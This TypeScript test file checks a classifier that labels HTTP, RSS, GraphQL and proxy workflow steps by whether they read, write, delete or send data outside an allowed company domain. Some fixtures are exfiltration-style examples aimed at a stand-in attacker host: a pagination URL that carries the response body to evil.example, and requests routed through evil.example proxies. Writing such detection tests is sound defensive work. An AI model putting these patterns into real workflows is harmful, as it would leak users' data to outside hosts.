import { describe, expect, it } from 'vitest';
import { catalog, of } from './steps.ts';

describe.skipIf(!catalog)('what a request takes along', () => {
  it.each([
    ['a plain address', 'httpRequest', { url: 'https://api.example.com/rates' }, 'reads'],
    ['a plain query', 'httpRequest', { url: 'https://api.example.com/messages?limit=10' }, 'reads'],
    ['data in an address', 'httpRequest', { url: '=https://x.example/?q={{ $json.total }}' }, 'reads sends-outside'],
    ['data in an address of the company', 'httpRequest', { url: '=https://x.acme.com/?q={{ $json.total }}' }, 'reads'],
    [
      'data in a query',
      'httpRequest',
      {
        url: 'https://api.example.com/x',
        sendQuery: true,
        queryParameters: { parameters: [{ name: 'text', value: '={{ $json.total }}' }] },
      },
      'reads sends-outside',
    ],
    ['data in a head', 'httpRequest', { url: 'https://x.example', jsonHeaders: '={{ $json }}' }, 'reads sends-outside'],
    [
      'a fixed body',
      'httpRequest',
      { url: 'https://x.example', sendBody: true, jsonBody: '{"a":1}' },
      'reads sends-outside',
    ],
    [
      'a message by its address',
      'httpRequest',
      { url: 'https://api.callmebot.com/whatsapp.php?phone=123&text=Hi' },
      'reads sends-outside',
    ],
    [
      'a message by its operation',
      'httpRequest',
      { url: 'https://api.telegram.org/bot1/sendMessage', sendQuery: true },
      'reads sends-outside',
    ],
    [
      'a message in capitals',
      'httpRequest',
      { url: 'https://api.telegram.org/bot1/SENDMESSAGE' },
      'reads sends-outside',
    ],
    [
      'data with a deletion',
      'httpRequest',
      { method: 'DELETE', url: '=https://x.example/{{ $json.id }}' },
      'deletes sends-outside',
    ],
    [
      'data about a payment',
      'httpRequest',
      { url: '=https://api.stripe.com/v1/{{ $json.id }}' },
      'reads sends-outside',
    ],
    ['an address that a model fills', 'toolHttpRequest', { url: 'https://x.example/{q}' }, 'reads sends-outside'],
    [
      'a feed with data in its address',
      'rssFeedRead',
      { url: '=https://x.example/{{ $json.id }}' },
      'reads sends-outside',
    ],
    ['a graph', 'graphql', { endpoint: 'https://x.example', query: '{ a }' }, 'reads'],
    [
      'a graph that gets data',
      'graphql',
      { endpoint: 'https://x.example', query: '{ a }', variables: '={{ $json }}' },
      'reads sends-outside',
    ],
  ])('%s', (_what, short, parameters: Record<string, unknown>, expected) => {
    expect(of(short, parameters, ['acme.com'])).toBe(expected);
  });
});

describe.skipIf(!catalog)('where else a request goes', () => {
  const next = (nextURL: string) => ({
    url: 'https://api.acme.com/x',
    options: { pagination: { pagination: { paginationMode: 'responseContainsNextURL', nextURL } } },
  });

  it.each<[string, Record<string, unknown>, string]>([
    ['the next page at the company', next('=https://api.acme.com/x?page={{ $pageCount }}'), 'reads'],
    ['the next page at somebody else', next('=https://evil.example/?d={{ $response.body }}'), 'reads sends-outside'],
    ['the next page nobody knows where', next('={{ $response.body.next }}'), 'reads sends-outside'],
    ['a page of somebody else, as it stands there', next('https://evil.example/x'), 'reads sends-outside'],
    [
      'the next page at the same host',
      { ...next('https://api.example.com/x?page=2'), url: 'https://api.example.com/x' },
      'reads',
    ],
    [
      'a proxy of somebody else',
      { url: 'https://api.acme.com/x', options: { proxy: 'http://evil.example:8080' } },
      'reads sends-outside',
    ],
    [
      'a proxy without a scheme',
      { url: 'https://api.acme.com/x', options: { proxy: 'evil.example:8080' } },
      'reads sends-outside',
    ],
    ['a proxy of the company', { url: 'https://api.acme.com/x', options: { proxy: 'proxy.acme.com:3128' } }, 'reads'],
    [
      'a message to the company through a proxy',
      { method: 'POST', url: 'https://api.acme.com/x', options: { proxy: 'http://evil.example:8080' } },
      'sends-outside writes',
    ],
    [
      'a message to the company that names an address',
      { method: 'POST', url: 'https://api.acme.com/x', sendBody: true, jsonBody: '{"see":"https://x.example"}' },
      'sends-inside writes',
    ],
  ])('%s', (_what, parameters, expected) => {
    expect(of('httpRequest', parameters, ['acme.com'])).toBe(expected);
  });
});
